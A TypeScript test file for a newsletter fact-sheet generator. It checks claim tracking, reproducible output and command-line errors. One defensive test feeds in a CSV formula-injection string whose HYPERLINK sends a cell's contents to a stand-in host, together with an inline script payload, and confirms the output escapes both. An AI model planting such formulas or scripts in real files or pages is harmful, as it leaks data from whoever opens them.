import {readFile} from 'node:fs/promises'
import {join} from 'node:path'
import {parse} from 'csv-parse/sync'
import {describe, expect, it} from 'vitest'
import {claimRecord, type ClaimKind} from '../../newsletter/claims/claim-record.ts'
import {deriveClaimState} from '../../newsletter/claims/derive-claim-state.ts'
import {newClaimCheck} from '../../newsletter/claims/new-claim-check.ts'
import {newClaim} from '../../newsletter/claims/new-claim.ts'
import {placesOf} from '../../newsletter/claims/printed-claim.ts'
import {block, plain} from '../../newsletter/quotes/testing.ts'
import type {StoredDocument} from '../fixtures/sample-documents.ts'
import {archiveSource} from '../../scripts/source/archive-source.ts'
import {runSheet} from '../../scripts/sheet/run-sheet.ts'
import {importableSample, temporaryFolder, writeDataset} from '../export/dataset.ts'
import {hashesIn, runCommand} from '../export/run.ts'

const golden = join(import.meta.dirname, '..', 'golden', 'sheet')
const archive = join(import.meta.dirname, '..', '..', 'content', 'dataset.ndjson')
const quiet = {update: () => undefined, clear: () => undefined}
const now = new Date('2026-05-22T09:00:00Z')

interface Row {
  readonly part: string
  readonly open: string
  readonly state: string
  readonly in_print: string
  readonly checked_by: string
  readonly address: string
  readonly to_do: string
}

const rowsOf = async (file: string): Promise<readonly Row[]> =>
  parse<Row>(await readFile(file, 'utf8'), {bom: true, columns: true})

/** The sheet of the sample's only issue that is ready, with one document changed, and others beside it. */
const sheetWith = async (id: string, change: object, more: readonly StoredDocument[] = []) => {
  const folder = await temporaryFolder()
  const documents = importableSample().map((document) =>
    document._id === id ? {...document, ...change} : document,
  )
  const source = await archiveSource(await writeDataset(folder, [...documents, ...more]))
  const report = await runSheet(source, {issue: '2', out: folder}, now, quiet)
  const [html = '', csv = ''] = report.issues.flatMap((one) => (one.outcome === 'written' ? one.files : []))
  return {
    report,
    html: await readFile(html, 'utf8'),
    csv: await readFile(csv, 'utf8'),
    rows: await rowsOf(csv),
  }
}

describe('the sheet of the sample', () => {
  it('holds every quotation, number, link and credit', async () => {
    const out = await temporaryFolder()
    const report = await runSheet(await archiveSource(archive), {issue: '43', out}, now, quiet)
    const file = (ending: string) => readFile(join(out, `fact-sheet-43.${ending}`), 'utf8')
    await expect(await file('html')).toMatchFileSnapshot(join(golden, 'fact-sheet-43.html'))
    await expect(await file('csv')).toMatchFileSnapshot(join(golden, 'fact-sheet-43.csv'))
    expect(report).toMatchObject({ok: true, counts: {issues: 1, written: 1, refused: 0}})
  })

  it('has the checkers of quotations, and of the numbers within them', async () => {
    const out = await temporaryFolder()
    await runSheet(await archiveSource(archive), {issue: '43', out}, now, quiet)
    const rows = await rowsOf(join(out, 'fact-sheet-43.csv'))
    const quoted = rows.filter(({state}) => state === 'Quoted: verified')
    expect(quoted).toMatchObject([
      {in_print: 'a hundred', checked_by: 'Lucia Marchetti; Priya Raman', open: 'no'},
    ])
    expect(rows.filter(({in_print}) => in_print === 'a hundred')).toHaveLength(2)
    expect(rows.filter(({part}) => part === 'Quotations').map(({open}) => open)).toEqual([
      'no',
      'no',
      'no',
      'no',
    ])
  })

  it('is the same bytes, made twice', async () => {
    const [one, other] = [await temporaryFolder(), await temporaryFolder()]
    const source = await archiveSource(archive)
    await runSheet(source, {issue: 'all', out: one}, now, quiet)
    await runSheet(source, {issue: 'all', out: other}, now, quiet)
    const hashes = await hashesIn(one)
    expect(Object.keys(hashes).length).toBeGreaterThan(5)
    expect(await hashesIn(other)).toEqual(hashes)
  })
})

describe('claims', () => {
  const essay = {
    ...importableSample().find(({_id}) => _id === 'essay-cells')!,
    body: [block('b1', plain('Output rose by 12 per cent in May. So says Ruth Oda of the Lower Mill.'))],
  }
  const put = (_id: string, kind: ClaimKind, words: string) => ({
    _id,
    _rev: `rev-of-${_id}`,
    ...newClaim(kind, essay._id, placesOf(essay, words)[0]!, 'See the yearbook.'),
  })
  const statistic = put('claim-1', 'statistic', '12 per cent')
  const check = newClaimCheck(
    deriveClaimState({
      claim: claimRecord(statistic),
      document: essay,
      credits: new Map(),
      checks: [],
      authors: [],
    }),
    {
      verdict: 'verified',
      checkerId: 'person-chen',
      checkerAccount: 'p-chen',
      checkedAt: '2026-05-20T10:00:00.000Z',
    },
  )!

  it('are listed with who checked them, what is open, and what was taken off and why', async () => {
    const {html, rows} = await sheetWith(essay._id, {body: essay.body}, [
      statistic,
      {_id: 'claim-check-1', _rev: 'rev-of-claim-check-1', ...check},
      put('claim-2', 'name', 'Ruth Oda'),
      {...put('claim-3', 'name', 'Lower Mill'), waivedFor: 'On every map.'},
    ])
    expect(rows.filter(({part}) => part === 'Claims')).toMatchObject([
      {in_print: '12 per cent', state: 'Verified', open: 'no', checked_by: 'Chen Sample', to_do: ''},
      {
        in_print: 'Ruth Oda',
        state: 'Unchecked',
        open: 'yes',
        checked_by: '',
        to_do: expect.stringContaining('never checked') as unknown,
      },
      {in_print: 'Lower Mill', state: 'Taken off: On every map.', open: 'no'},
    ])
    // The number in the same words needs no second look.
    expect(rows.filter(({state}) => state === 'As a claim: verified')).toMatchObject([
      {part: 'Numbers', in_print: '12', open: 'no', checked_by: 'Chen Sample'},
    ])
    expect(html).toMatch(/<h2[^>]*>Claims.*1 of 3 open/)
    expect(html).toContain('See the yearbook.')
  })
})

describe('what people typed', () => {
  const dangerous = '=HYPERLINK("https://a.example/?"&A1,"Pay 9000")<script>alert(9000)</script>'

  it('is text on the page, and runs no formula in a spreadsheet', async () => {
    const {html, csv, rows} = await sheetWith('issue-2', {subject: dangerous, preheader: '+90 or @me\tor -1'})
    expect(html).not.toContain('<script')
    expect(html).toContain('&lt;script&gt;alert(')
    const cells = rows.flatMap((row) => Object.values<string>({...row}))
    expect(cells.filter((cell) => cell.includes('HYPERLINK')).length).toBeGreaterThan(0)
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
    expect(csv).toContain("'=HYPERLINK")
    expect(csv).toContain("'+90")
  })

  it('may be missing: a sheet is made of an issue that isn’t fit to go out', async () => {
    const {report, rows} = await sheetWith('essay-cells', {title: undefined, body: undefined})
    expect(report.ok).toBe(true)
    expect(rows.length).toBeGreaterThan(0)
  })

  it('in quotation marks is open, when no quote says where it is from', async () => {
    const {rows} = await sheetWith('essay-cells', {teaser: 'They said “never again, whatever it costs us”.'})
    expect(rows.filter(({state}) => state === 'Unregistered')).toMatchObject([
      {in_print: 'never again, whatever it costs us', open: 'yes'},
    ])
  })
})

describe('the command', () => {
  it('writes two files, and says how much is open', async () => {
    const out = await temporaryFolder()
    const {code, stdout, stderr} = await runCommand('sheet', ['--issue', '43', '--out', out, '--json'])
    expect([code, stderr], stderr).toEqual([0, expect.stringContaining('entries open')])
    expect(JSON.parse(stdout)).toMatchObject({
      ok: true,
      issues: [{outcome: 'written', number: 43, openByKind: {quote: 0}}],
    })
    expect(Object.keys(await hashesIn(out))).toEqual(['fact-sheet-43.csv', 'fact-sheet-43.html'])
  })

  it.each([
    [['--issue', ''], 2, '--issue'],
    [['--issue', '9999'], 2, '9999'],
    [['--dataset', '/nowhere.ndjson'], 2, '/nowhere.ndjson'],
    [['--out', archive], 2, '--out'],
    [['--frob'], 2, '--frob'],
    [['--project', 'local', '--dataset-name', 'x', '--api-host', 'http://127.0.0.1:9'], 3, 'dataset x'],
  ])('%j ends with exit code %i, and a word on %s', async (args, expected, word) => {
    const out = await temporaryFolder()
    const {code, stdout, stderr} = await runCommand('sheet', ['--out', join(out, 's'), ...args])
    expect([code, stdout], stderr).toEqual([expected, ''])
    expect(stderr).toContain(word)
    expect(await hashesIn(join(out, 's'))).toEqual({})
  })

  it('refuses two issues of one number', async () => {
    const folder = await temporaryFolder()
    const documents = importableSample()
    const twin = {...documents.find(({_id}) => _id === 'issue-2')!, _id: 'issue-2b'}
    const dataset = await writeDataset(folder, [...documents, twin])
    const out = join(folder, 's')
    const {code, stdout} = await runCommand('sheet', ['--dataset', dataset, '--issue', '2', '--out', out])
    expect(code).toBe(1)
    expect(stdout).toContain('export/duplicate-number')
    expect(await hashesIn(out)).toEqual({})
  })
})
